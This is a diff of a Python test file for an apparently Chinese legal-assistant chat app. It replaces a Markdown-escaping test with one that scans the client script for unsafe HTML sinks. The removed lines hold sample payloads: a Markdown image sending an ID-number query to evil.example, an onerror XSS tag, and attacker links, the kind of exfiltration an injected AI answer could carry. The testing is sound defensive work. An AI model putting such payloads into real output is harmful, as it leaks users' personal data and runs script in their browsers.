@@ -88,11 +88,16 @@ def test_cli_bad_input_prints_errors_not_tracebacks(tmp_path):
     assert '"id": "ok"' in r.stdout
 
 
-def test_chat_markdown_fetches_nothing_and_runs_nothing():
-    from assistant.ui import _escape_md
+def test_chat_client_renders_answer_text_as_text_only():
+    """The chat page and the widget share one client that puts answer text on screen as text (textContent): a
+    Markdown image, raw HTML or a link in an answer is shown as characters, never fetched, run or followed. The one
+    HTML it inserts is the guard's annotated report, which the guard escapes (tests/guard/test_annotate.py)."""
+    from pathlib import Path
 
-    shown = _escape_md('结论。![图](https://evil.example/leak?q=身份证) <img src=x onerror=alert(1)> '
-                       '[点此](https://evil.example/a) [条文](/api/articles/cpl/244) https://evil.example/b')
-    assert "![" not in shown and "<img" not in shown and "](https://evil" not in shown
-    assert "[条文](/api/articles/cpl/244)" in shown and "https\\://evil.example/b" in shown
-    assert "[官网](https://flk.npc.gov.cn/x)" in _escape_md("[官网](https://flk.npc.gov.cn/x)", ("flk.npc.gov.cn",))
+    import assistant
+
+    js = (Path(assistant.__file__).parent / "static" / "chat.js").read_text(encoding="utf-8")
+    inner = [line.strip() for line in js.splitlines() if "innerHTML" in line and "=" in line.split("innerHTML", 1)[1][:3]]
+    assert inner == ["annotated.innerHTML = report.annotated_html;  // the guard escapes the text and every attribute"]
+    for sink in ("outerHTML", "insertAdjacentHTML", "document.write", ".src =", "eval(", "new Function"):
+        assert sink not in js, sink
